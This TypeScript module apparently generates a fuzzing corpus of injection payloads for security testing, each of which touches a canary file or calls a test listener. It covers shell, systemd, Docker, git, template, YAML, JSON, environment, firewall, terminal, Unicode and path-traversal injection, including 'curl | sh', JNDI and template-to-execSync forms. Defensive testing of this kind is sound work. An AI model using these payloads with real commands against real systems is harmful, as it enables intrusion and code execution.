/** Texts of which each would make its own canary file, or ask a listener of ours, if anything took it for more than text. */
export type Kind = 'sh' | 'unit' | 'docker' | 'git' | 'url' | 'template' | 'yaml' | 'json' | 'env' | 'firewall' | 'journal' | 'terminal' | 'unicode' | 'path' | 'long';

export interface Payload { name: string; kind: Kind; text: string; /** The number in the name of its canary. */ id: number }

/** `file`: the canary; `touch`: a command that makes it; `url`: of the listener. */
interface Bait { file: string; touch: string; url: string }
type Maker = (bait: Bait) => string;

const sh: Maker[] = [
  ...['; {}', '; {} ;', '& {}', '&& {}', '| {}', '|| {}', '\n{}\n', '\r\n{}', '$({})', '`{}`', '"$({})"', '"; {}; "', "'; {}; '", "'$({})'", '"`{}`"', "'\"; {}; #", '); {}; (', '}; {}; {', '; {} #', '\\; {}', '\\\n{}', '$(( $({}) ))', '<({})', '>({})', '{}', '!{}',
    '$(eval "{}")', ';exec {}', '& {} &', 'x=$({})', '${x:-$({})}', '${x:=`{}`}', '${x+$({})}', "$'; {}'", '*; {}', '?; {}', '[a]; {}', '~; {}', 'a b; {}', '-c "{}"', '--; {}', '-- ; {}', '|& {}', '\t;\t{}', ';;{};;', 'x\n\n{}', '\u000b; {}', '\f; {}', '\u0085{}', '\u2028{}', ') | {}', '" | {} | "', "' | {} | '", '"; {} #', "'; {} #"]
    .map((form): Maker => ({ touch }) => form.replaceAll('{}', touch)),
  ({ file }) => `$(touch\${IFS}${file})`, ({ file }) => `;touch$IFS$9${file};`, ({ file }) => `{touch,${file}}`, ({ file }) => `;>${file};`, ({ file }) => `> ${file}`, ({ file }) => `x >>${file}`, ({ file }) => `>&${file}`, ({ file }) => `&>${file}`, ({ file }) => `<>${file}`, ({ file }) => `x 2>${file}`,
  ({ file }) => `$(<${file})$(>${file})`, ({ file }) => `() { :;}; /usr/bin/touch ${file}`, ({ file }) => `$(python3 -c 'open("${file}","w")')`, ({ file }) => `$(printf x>${file})`, ({ file }) => `x$(:>${file})y`, ({ file }) => `a;b=touch;$b ${file}`, ({ file }) => `$[$(touch ${file})]`,
  ({ file }) => `<<X\n$(touch ${file})\nX`, ({ file }) => `<<<$(touch ${file})`, ({ file }) => `coproc touch ${file}`, ({ file }) => `$(IFS=_;x=touch_${file};$x)`, ({ file }) => `;t''ouch ${file}`, ({ file }) => `;/???/b??/touch ${file}`, ({ file }) => `%0atouch ${file}`, ({ file }) => `%3Btouch%20${file}`,
  ({ file }) => `-exec touch ${file} ;`, ({ file }) => `-o ProxyCommand="touch ${file}"`, ({ file }) => `--checkpoint=1 --checkpoint-action=exec=touch ${file}`, ({ file }) => `--to-command=touch ${file}`, ({ file }) => `--use-compress-program=touch ${file}`, ({ file }) => `-I "touch ${file}"`, ({ file }) => `--rsh=touch ${file}`, ({ file }) => `-w${file}`, ({ file }) => `--output=${file}`, ({ file }) => `-o${file}`,
  ({ file }) => `@${file}`, ({ file }) => `sh -c "touch ${file}"`, ({ file }) => `/bin/sh -c 'touch ${file}'`, ({ file }) => `root; touch ${file}`, ({ file }) => `deploy$(touch ${file})`, ({ file }) => `0$(touch ${file})`,
];

const program = '/usr/bin/touch';
const unit: Maker[] = [
  ...['\nExecStartPre={}', '\nExecStartPost=+{}', '\n[Service]\nExecStart={}', '\r\nExecStartPre={}', '\rExecStartPre={}', '\\\nExecStartPre={}', '"\nExecStartPre={}\nX="', "'\nExecStartPre={}", '\nExecReload={}\n', '\nOnFailure=x.service\nExecStopPost={}', '\u2028ExecStartPre={}', '\u0085ExecStartPre={}', '\u000bExecStartPre={}', '\0\nExecStartPre={}',
    '; {}', '+{}', '!{}', '-+{}', '@{}', ':{}', '|{}', '\\x0aExecStartPre={}', '\\nExecStartPre={}', '\\n{}', '\\', '\\\\', 'x\\', '"', "'", '"x', '%n; {}', '%%; {}', '%\nExecStartPre={}', '\n;{}', '\n#\nExecCondition={}', ' ; {}']
    .map((form): Maker => ({ file }) => form.replaceAll('{}', `${program} ${file}`)),
  ({ file }) => `" "LD_PRELOAD=${file}`, ({ file }) => `"\nEnvironmentFile=${file}`, ({ file }) => `"\nStandardOutput=file:${file}\n#`, ({ file }) => `\nStandardOutput=append:${file}`, ({ file }) => `\nUser=root\nExecStartPre=${program} ${file}`, () => '%H%m%b%i%s', () => '%h/%t/%S', () => '%s -c id', () => '${HOME}$PATH$$',
  ({ file }) => `$MAINPID; ${program} ${file}`, ({ file }) => `\n.include ${file}`, ({ file }) => `\nRootDirectory=/\nExecStartPre=!!${program} ${file}`,
];

const docker: Maker[] = [
  ({ file }) => `x --privileged -v /:/host alpine touch /host${file}`, ({ file }) => `--privileged=true -v /:/h --entrypoint "touch ${file}"`, ({ file }) => `-v/:/host:rw,z ${file}`, ({ file }) => `/:/host:rw; touch ${file}`, ({ file }) => `type=bind,source=/,target=${file}`, ({ file }) => `x","Privileged":true,"Cmd":["touch","${file}"],"y":"`,
  ({ file }) => `demo/web:1?fromSrc=-&cmd=touch ${file}`, ({ file }) => `demo/web:1#${file}`, ({ file }) => `../containers/json?x=${file}`, ({ file }) => `..%2f..%2fcontainers%2fx?${file}`, ({ file }) => `demo/web:1/json?x=1 HTTP/1.1\r\nHost: x\r\n\r\nPOST /containers/prune?${file}`, ({ file }) => `container:x; touch ${file}`, ({ file }) => `LD_PRELOAD=${file}`, ({ file }) => `maestro.deploy=dpl_x,${file}`,
  ({ file }) => `local,o=bind,device=/,${file}`, ({ file }) => `demo/web:1@sha256:${'0'.repeat(64)};touch ${file}`, ({ file }) => `ns:/proc/1/ns/net;${file}`,
];

const git: Maker[] = [
  ({ touch }) => `ext::sh -c "${touch}"`, ({ file }) => `ext::sh -c touch% ${file}`, ({ file }) => `--upload-pack=touch ${file}`, ({ file }) => `-u touch ${file}`, ({ file }) => `--config=core.sshCommand=touch ${file}`, ({ file }) => `-ccore.fsmonitor=touch\${IFS}${file}`, ({ file }) => `ssh://-oProxyCommand=touch\${IFS}${file}/x`, ({ file }) => `-oProxyCommand=touch ${file}:x`, ({ file }) => `git@-oProxyCommand=touch ${file}:x`,
  ({ file }) => `file://${file}/../../etc`, ({ file }) => `fd::17/${file}`, ({ file }) => `main --exec=touch ${file}`, ({ file }) => `refs/heads/main:refs/x;touch ${file}`, ({ file }) => `main^{/$(touch ${file})}`, ({ file }) => `:(exclude)${file}`, ({ file }) => `HEAD:../../../${file}`, ({ file }) => `main\0--upload-pack=touch ${file}`, ({ file }) => `--receive-pack=touch ${file}`, ({ file }) => `-x!touch ${file}`, ({ file }) => `transport::${file}`,
];

const url: Maker[] = [
  ({ url: address }) => address, ({ url: address }) => `//${address.slice('http://'.length)}`, ({ url: address }) => `http://localhost@${address.slice('http://'.length)}`, ({ url: address }) => `127.0.0.1#@${address.slice('http://'.length)}`, ({ url: address }) => `x\r\nLocation: ${address}`, ({ url: address }) => `$(curl -s ${address})`, ({ url: address }) => `; curl ${address} | sh`, ({ url: address }) => `<script src="${address}"></script>`, ({ url: address }) => `![x](${address})`,
  ({ url: address }) => `" onload="fetch('${address}')`, ({ url: address }) => `javascript:fetch('${address}')`, ({ url: address }) => `\${jndi:ldap://${address.slice('http://'.length)}}`, ({ url: address }) => `x?redirect=${address}`, ({ url: address }) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${address}">]><x>&e;</x>`, ({ url: address }) => `'; COPY x FROM PROGRAM 'curl ${address}'; --`, ({ url: address }) => `$(</dev/tcp/${address.slice('http://'.length).replace(':', '/')})`,
];

const spawnIt = (file: string): string => `require("child_process").execSync("touch ${file}")`;
const template: Maker[] = [
  ...['constructor.constructor("return process")().mainModule.', '"".constructor.constructor("return process")().mainModule.', 'range.constructor("return process")().mainModule.', 'cycler.constructor("return process")().mainModule.', 'joiner.constructor("return global")().process.mainModule.', 'self.constructor.constructor("return process")().mainModule.', '[].constructor.constructor("return process")().mainModule.', 'vars["__proto__"]["constructor"]["constructor"]("return process")().mainModule.', 'process.mainModule.', 'global.process.mainModule.', '({}).__proto__.constructor.constructor("return process")().mainModule.', '""["con"+"structor"]["constructor"]("return process")().mainModule.']
    .map((way): Maker => ({ file }) => `{{ ${way}${spawnIt(file)} }}`),
  ({ file }) => `{{ range.constructor("return import('node:fs')")().then(f => f.writeFileSync("${file}", "")) }}`, ({ file }) => `{% include "${file}" %}`, ({ file }) => `{% import "/etc/passwd" as x %}{{ x }}${file}`, ({ file }) => `{% extends "../../../../${file}" %}`, ({ file }) => `{% set x = range.constructor('${spawnIt(file).replaceAll('"', '\\"')}') %}{{ x() }}`, ({ file }) => `{{ ''.__class__.__mro__[1].__subclasses__()('touch ${file}') }}`,
  ({ file }) => `{{ request.application.__globals__.__builtins__.__import__('os').popen('touch ${file}') }}`, ({ file }) => `#{ ${spawnIt(file)} }`, ({ file }) => `<%= ${spawnIt(file)} %>`, ({ file }) => `\${ ${spawnIt(file)} }`, ({ file }) => `{{{ ${spawnIt(file)} }}}`, ({ file }) => `{{ 1 }}${file}\n`, ({ file }) => `{{ "\\n" }}ExecStartPre=${program} ${file}`, ({ file }) => `x{{ "\\nExecStartPre=${program} ${file}" }}`, ({ file }) => `{{ "/tmp/../" }}$(touch ${file})`, ({ file }) => `{{ vault://x }}$(touch ${file})`,
];

const yaml: Maker[] = [
  ({ file }) => `!!js/function "function(){${spawnIt(file)}}()"`, ({ file }) => `!!python/object/apply:os.system ["touch ${file}"]`, ({ file }) => `!ruby/object:Gem::Requirement ${file}`, ({ file }) => `x\nrun: { type: systemd, command: "touch ${file}" }`, ({ file }) => `x"\n    command: "touch ${file}`, ({ file }) => `&a [*a, "$(touch ${file})"]`, ({ file }) => `<<: ${file}`, ({ file }) => `- ${file}\n- x`, ({ file }) => `x # ${file}`, ({ file }) => `| touch ${file}`, ({ file }) => `--- ${file}\n...`,
];

const json: Maker[] = [({ file }) => `","command":["touch","${file}"],"x":"`, ({ file }) => `"}]}; touch ${file}`, ({ file }) => `{"__proto__":{"shell":true,"env":{"NODE_OPTIONS":"--require ${file}"}}}`, ({ file }) => `\\u0022,"x":"${file}`, ({ file }) => `__proto__;touch ${file}`, ({ file }) => `constructor.prototype.shell=${file}`];
const env: Maker[] = [({ file }) => `x\nLD_PRELOAD=${file}`, ({ file }) => `x\nBASH_ENV=${file}\n`, ({ file }) => `" ENV="${file}`, ({ file }) => `x"\nNODE_OPTIONS="--require=${file}`, ({ file }) => `() { :; }; touch ${file}`, ({ file }) => `x\0LD_PRELOAD=${file}`, ({ file }) => `$(touch ${file})"\\\n`, ({ file }) => `PATH=/tmp:${file}`, ({ file }) => `x'\nGIT_SSH_COMMAND='touch ${file}`, ({ file }) => `x\\"\nPERL5OPT=-e${file}`];
const firewall: Maker[] = [({ file }) => `80 -j ACCEPT; touch ${file}`, ({ file }) => `80\n-A INPUT -j ACCEPT\nCOMMIT\n#${file}`, ({ file }) => `8080:80 -m comment --comment $(touch ${file})`, ({ file }) => `0.0.0.0/0 -j DNAT --to ${file}`, ({ file }) => `add rule inet x y; include "${file}"`];
const journal: Maker[] = [({ file }) => `<0>kernel panic ${file}`, ({ file }) => `MESSAGE=x\n_UID=0\n${file}`, ({ file }) => `%s%s%s%n$(touch ${file})`, ({ file }) => `{"level":50}\n{"x":"${file}"}`, ({ file }) => `--vacuum-size=1 ${file}`];
const terminal: Maker[] = [({ file }) => `\u001b]0;touch ${file}\u0007`, ({ file }) => `\u001b[2J\u001b[1;1H$(touch ${file})`, ({ file }) => `\u001b]52;c;${file}\u0007`, ({ file }) => `\u009b31m${file}`, ({ file }) => `x\u0008\u0008\u007f${file}`, ({ file }) => `\u001bP$q"p\u001b\\${file}`];
const unicode: Maker[] = [({ file }) => `\u202e;touch ${file}`, ({ file }) => `\uff1btouch ${file}`, ({ file }) => `\u200b;\u200btouch ${file}`, ({ file }) => `\ufeff;touch ${file}`, ({ file }) => `\ud800;touch ${file}`, ({ file }) => `\udfff$(touch ${file})`, ({ file }) => `\0;touch ${file}`, ({ file }) => `x\0$(touch ${file})`, ({ file }) => `\uffff;touch ${file}`, ({ file }) => `\ue000x\ue001$(touch ${file})`, ({ file }) => `e\u0301;touch ${file}`, ({ file }) => `\u00a0;\u00a0touch ${file}`, ({ file }) => `\ud83d\ude00;touch ${file}`, ({ file }) => `\u037e touch ${file}`];
const path: Maker[] = [({ file }) => `../../../..${file}`, ({ file }) => `..\\..\\${file}`, ({ file }) => `....//....//${file}`, ({ file }) => `/proc/self/root${file}`, ({ file }) => `/dev/fd/../../..${file}`, ({ file }) => `%2e%2e%2f${file}`, ({ file }) => `./../${file};touch ${file}`];
const long: Maker[] = [({ touch }) => `${'A'.repeat(300)}$(${touch})`, ({ touch }) => `${'A'.repeat(5_000)};${touch}`, ({ touch }) => `${'$(' .repeat(500)}${touch}${')'.repeat(500)}`, ({ touch }) => `${'A '.repeat(20_000)};${touch}`, ({ touch }) => `${'\u{1f600}'.repeat(2_000)};${touch}`, ({ touch }) => `${'\n'.repeat(3_000)}${touch}`, ({ touch }) => `${'\\'.repeat(2_001)};${touch}`, ({ touch }) => `${'%'.repeat(3_001)};${touch}`];

const makers: Record<Kind, Maker[]> = { sh, unit, docker, git, url, template, yaml, json, env, firewall, journal, terminal, unicode, path, long };

/** `base`: what canaries are called but for their number, as a path; `address`: `host:port` of the listener. */
export function payloads(base: string, address: string): Payload[] {
  let id = 0;
  return (Object.keys(makers) as Kind[]).flatMap((kind) => makers[kind].map((make, index) => {
    id += 1;
    const file = `${base}${String(id)}`;
    return { id, kind, name: `${kind} ${String(index + 1)}`, text: make({ file, touch: `touch ${file}`, url: `http://${address}/canary-${String(id)}` }) };
  }));
}
